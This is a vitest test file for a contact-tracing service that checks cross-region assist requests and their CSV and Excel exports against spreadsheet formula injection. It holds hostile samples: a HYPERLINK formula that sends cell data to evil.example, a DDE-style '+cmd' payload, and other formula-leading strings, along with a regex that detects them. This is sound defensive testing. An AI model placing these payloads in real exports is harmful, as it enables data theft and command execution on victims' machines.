import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { AssistRequest, CaseRecord, ContactOutcome } from '@lianfang/contracts'
import { TEST_DATABASES } from '../../testing/test-database.js'
import { createTestApp, type TestApp, type TestRegions } from '../../testing/test-app.js'
import { decodeTable } from '../../import/index.js'

const DAY = 86_400_000
const ago = (ms: number) => new Date(Date.now() - ms).toISOString()
const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'

/**
 * Issue #14: a 协查 request sent by another region must not reach a spreadsheet as a live formula,
 * and the reasons it carries have a schema (bounded), on the way in and on the way out.
 */
describe.each(TEST_DATABASES)('协查 reasons and the CSV export on %s', (kind) => {
  let t: TestApp
  let sender: TestRegions
  let receiver: TestRegions
  let epi: string
  let theirEpi: string
  beforeAll(async () => {
    t = await createTestApp(kind)
    sender = await t.makeRegions()
    receiver = await t.makeRegions()
    epi = await t.login('epidemiologist', sender.district)
    theirEpi = await t.login('epidemiologist', receiver.district)
  })
  afterAll(async () => t.close())

  const post = (url: string, payload: object) =>
    t.app.inject({ method: 'POST', url, headers: { cookie: epi }, payload })

  it('refuses a reason whose rule is not a contact rule (a formula) with a 400', async () => {
    const p = await t.createPerson(sender.communities[0])
    const c = (
      await post('/api/cases', { personId: p.id, status: 'confirmed', onsetAt: ago(DAY) })
    ).json<CaseRecord>()
    const theirs = await t.createPerson(receiver.communities[0])
    const res = await post(`/api/cases/${c.id}/contacts`, {
      contacts: [
        { personId: theirs.id, degree: 'close', lastExposureAt: ago(DAY), reasons: [{ rule: FORMULA }] },
      ],
    })
    expect(res.statusCode, res.body).toBe(400)
    expect(res.json<{ error: { code: string } }>().error.code).toBe('VALIDATION_FAILED')
  })

  it('takes reasons of the schema only: known rules, known fields, bounded text and counts', async () => {
    const p = await t.createPerson(sender.communities[0])
    const c = (
      await post('/api/cases', { personId: p.id, status: 'confirmed', onsetAt: ago(DAY) })
    ).json<CaseRecord>()
    const mine = await t.createPerson(sender.communities[1])
    const venue = {
      rule: 'venue_overlap',
      venueId: '1',
      from: ago(DAY + 3600_000),
      to: ago(DAY),
      minutes: 60,
    }
    const confirm = (reasons: unknown) =>
      post(`/api/cases/${c.id}/contacts`, {
        contacts: [{ personId: mine.id, degree: 'close', lastExposureAt: ago(DAY), reasons }],
      })
    for (const bad of [
      [{ rule: 'investigator', note: 'x'.repeat(501) }],
      [{ rule: 'investigator' }],
      [{ ...venue, extra: 'no' }],
      [{ ...venue, minutes: -1 }],
      [{ ...venue, from: 'yesterday' }],
      [{ rule: 'household', groupId: 'g'.repeat(65) }],
      [{ ...venue, caseSeat: { row: 1, seatNote: 'x' } }],
      Array.from({ length: 51 }, () => ({ rule: 'household' })),
      ['household'],
    ]) {
      const res = await confirm(bad)
      expect(res.statusCode, JSON.stringify(bad).slice(0, 80)).toBe(400)
      expect(res.json<{ error: { code: string } }>().error.code).toBe('VALIDATION_FAILED')
    }
    const ok = await confirm([
      venue,
      { rule: 'household', groupId: '7' },
      { rule: 'investigator', note: '同乘电梯' },
    ])
    expect(ok.statusCode, ok.body).toBe(200)
    const rows = (await t.app.inject({ url: `/api/cases/${c.id}/contacts`, headers: { cookie: epi } })).json<
      { reasons: unknown[] }[]
    >()
    expect(rows[0]?.reasons).toEqual([
      venue,
      { rule: 'household', groupId: '7' },
      { rule: 'investigator', note: '同乘电梯' },
    ])
  })

  it('exports every text cell neutralised, even from a request stored with formula text', async () => {
    const p = await t.createPerson(sender.communities[0])
    const c = (
      await post('/api/cases', { personId: p.id, status: 'confirmed', onsetAt: ago(DAY) })
    ).json<CaseRecord>()
    const theirs = await t.createPerson(receiver.communities[0])
    const res = await post(`/api/cases/${c.id}/contacts`, {
      contacts: [
        {
          personId: theirs.id,
          degree: 'close',
          lastExposureAt: ago(DAY),
          reasons: [{ rule: 'investigator', note: FORMULA }],
        },
      ],
    })
    expect(res.statusCode, res.body).toBe(200)
    const [routed] = res.json<ContactOutcome[]>()
    expect(routed?.status).toBe('routed')
    const id = routed?.assistRequestId ?? ''
    // A row written before reasons had a schema (or by a peer that does not check): formula text in
    // its free-form fields.
    await t.services.database.db
      .updateTable('assist_requests')
      .set({
        from_region: FORMULA,
        payload: JSON.stringify({
          caseId: '+cmd|" /C calc"!A0',
          degree: '@SUM(1+1)',
          lastExposureAt: '-2+3',
          reasons: [{ rule: FORMULA }, { rule: '\t=1+1' }, { rule: 'household' }],
        }),
      })
      .where('id', '=', id)
      .execute()

    const list = await t.app.inject({
      url: '/api/assist-requests?direction=incoming',
      headers: { cookie: theirEpi },
    })
    expect(list.statusCode, list.body).toBe(200)
    // The JSON list: the case, degree and exposure of the contact; of the reasons, those of the schema.
    expect(list.json<AssistRequest[]>().find((a) => a.id === id)?.payload).toEqual({
      caseId: c.id,
      degree: 'close',
      lastExposureAt: expect.any(String),
      reasons: [{ rule: 'household' }],
    })

    const out = await t.app.inject({
      url: '/api/assist-requests.csv?direction=incoming',
      headers: { cookie: theirEpi },
    })
    expect(out.statusCode, out.body).toBe(200)
    const line = out.body.split('\r\n').find((l) => l.startsWith(`${id},`))
    expect(line).toBeDefined()
    expect(line).toContain(`,open,"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击查看"")",`)
    expect(line).toContain(`,${c.id},`)
    // Reasons that match no contact rule are not passed on at all.
    expect(line).toContain(`,household,`)
    expect(line?.match(/HYPERLINK/g)).toHaveLength(1)
    // No cell of the whole file starts a formula: every cell begins after a comma, a line start or a quote.
    expect(out.body).not.toMatch(/(^|,|\r\n|\uFEFF)"?[=+\-@\t\r]/)

    // The same table as an Excel workbook: the same cells, neutralised the same way.
    const xlsx = await t.app.inject({
      url: '/api/assist-requests/export?direction=incoming&format=xlsx',
      headers: { cookie: theirEpi },
    })
    expect(xlsx.statusCode, xlsx.body).toBe(200)
    expect(xlsx.headers['content-type']).toContain('spreadsheetml')
    expect(xlsx.headers['content-disposition']).toBe('attachment; filename="assist-requests-incoming.xlsx"')
    const sheet = await decodeTable(xlsx.rawPayload)
    const row = sheet.rows.find((r) => r.cells[0] === id)
    expect(row?.cells[2]).toBe(`'${FORMULA}`)
    expect(row?.cells[4]).toBe(c.id)
  })
})
